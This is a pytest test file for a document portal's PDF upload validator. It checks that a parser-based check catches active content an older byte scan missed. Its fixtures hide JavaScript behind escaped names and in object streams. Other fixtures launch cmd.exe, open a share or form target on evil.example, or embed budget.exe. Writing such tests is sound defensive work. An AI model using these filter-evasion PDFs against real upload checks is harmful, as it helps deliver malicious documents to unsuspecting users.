"""PDFs are judged by their names as a viewer decodes them, in every object of the file.

Each hostile file here passes the byte scan the portal used before (``/JavaScript``, ``/JS``
or ``/Launch`` followed by a word boundary, anywhere in the raw bytes): its names are
escaped (``/J#61vaScript``), packed in a compressed object stream, or of a kind the scan
did not know.
"""

import io
import re

import pytest
from pypdf import PdfWriter

from portal.uploads import UploadProblem, check_upload
from portal.uploads.documents import MAX_OBJECTS, pdf_problem
from tests.factories.files import one_page_pdf, pdf

LIMIT = 10 * 1024 * 1024
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A %s >>"


def old_scan_finds_it(data: bytes) -> bool:
    return re.search(rb"/(JavaScript|JS|Launch)\b", data) is not None


HOSTILE = {
    "script under escaped names in a link": one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[LINK % rb"<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>"]),
    "document script in an object stream": one_page_pdf(
        catalogue=b"/Names 4 0 R",
        extra=[b"<< /JavaScript 5 0 R >>", b"<< /Names [(a) 6 0 R] >>",
               rb"<< /S /JavaScript /JS (app.alert\(1\)) >>"], packed=[4, 5, 6]),
    "script as the opening action": one_page_pdf(
        catalogue=rb"/OpenAction << /S /#4A#61va#53cript /#4AS (app.alert\(1\)) >>"),
    "script in an annotation's additional actions": one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[rb"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A#41 << /E << "
               rb"/S /Java#53cript /J#53 (app.alert\(1\)) >> >> >>"]),
    "the catalogue itself packed, opening a script": one_page_pdf(
        catalogue=b"/OpenAction 4 0 R", extra=[rb"<< /S /JavaScript /JS (app.alert\(1\)) >>"],
        packed=[1, 4]),
    "a program started on opening": one_page_pdf(
        catalogue=rb"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    "a network share opened on opening": one_page_pdf(
        catalogue=rb"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) "
                  rb"/D [0 /Fit] >>"),
    "a web address opened on opening": one_page_pdf(
        catalogue=b"/OpenAction << /S /URI /URI (https://tracker.example/opened) >>"),
    "a form sent by a link": one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[LINK % b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"]),
    "an attached file": one_page_pdf(
        catalogue=b"/Names << /EmbeddedFiles 4 0 R >>",
        extra=[b"<< /Names [(budget.exe) 5 0 R] >>",
               b"<< /Type /Filespec /F (budget.exe) /EF << /F 6 0 R >> >>",
               b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"]),
    "an XFA form": one_page_pdf(catalogue=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                                extra=[b"<< /Length 0 >>\nstream\n\nendstream"]),
    "rich media": one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"]),
    "an action only the cross-reference lists": pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>",
         rb"<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>"]),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_active_content_is_refused_where_a_byte_scan_misses_it(name):
    data = HOSTILE[name]
    assert not old_scan_finds_it(data)
    assert check_upload(data, "кошторис.pdf", max_bytes=LIMIT) is UploadProblem.PDF_SCRIPT


def test_a_plain_script_is_still_refused():
    data = one_page_pdf(catalogue=rb"/OpenAction << /S /JavaScript /JS (app.alert\(1\)) >>")
    assert old_scan_finds_it(data)
    assert pdf_problem(data) is UploadProblem.PDF_SCRIPT


@pytest.mark.parametrize("data", [
    one_page_pdf(),
    # What Word and LaTeX write: open at the first page, links to the web and within.
    one_page_pdf(catalogue=b"/OpenAction [3 0 R /Fit]"),
    one_page_pdf(catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >>",
                 page=b"/Annots [4 0 R 5 0 R]",
                 extra=[LINK % b"<< /S /URI /URI (https://budget.example/project/7) >>",
                        LINK % b"<< /S /GoTo /D [3 0 R /Fit] >>"], packed=[4, 5]),
    # Names that only look like the refused ones, in a page's text.
    one_page_pdf(page=b"/Contents 4 0 R",
                 extra=[b"<< /Length 44 >>\nstream\nBT (/JavaScript /JS /Launch) Tj ET"
                        b"\nendstream"]),
], ids=["bare", "opens at a page", "links", "text that names scripts"])
def test_ordinary_documents_are_accepted(data):
    assert pdf_problem(data) is None


def test_a_document_the_portal_renders_is_accepted(app_ctx):
    from portal.reports.document import Document, Paragraph
    from portal.reports.renderers.pdf import render_pdf

    data = render_pdf(Document(title="Звіт", name="zvit",
                               blocks=(Paragraph("Виконання програми: 94,4 %"),)))
    assert check_upload(data, "звіт.pdf", max_bytes=LIMIT).type.extension == "pdf"


def encrypted(password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(password, "owner-secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n" + b"\x00garbage " * 100,
    one_page_pdf()[:120],
    encrypted("пароль"),
], ids=["garbage", "cut short", "locked with a password"])
def test_a_document_that_cannot_be_read_is_refused_as_such(data):
    assert check_upload(data, "акт.pdf", max_bytes=LIMIT) is UploadProblem.PDF_UNREADABLE


def test_a_document_encrypted_without_a_password_is_judged_like_any_other():
    assert pdf_problem(encrypted("")) is None


def test_a_document_of_too_many_objects_is_refused_before_they_are_parsed():
    catalogue = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    listed = pdf(catalogue + [b"<< >>"] * MAX_OBJECTS, packed=range(3, MAX_OBJECTS + 3))
    assert pdf_problem(listed) is UploadProblem.PDF_TOO_COMPLEX
    # A stream that declares more objects than the cross-reference lists: pypdf would parse
    # them all at once.
    declared = pdf(catalogue + [b"<< >>"] * 3, packed=[3, 4, 5]).replace(
        b"/N 3 ", b"/N %d " % (MAX_OBJECTS + 1))
    assert pdf_problem(declared) is UploadProblem.PDF_TOO_COMPLEX
    assert pdf_problem(pdf(catalogue + [b"<< >>"] * 3, packed=[3, 4, 5])) is None
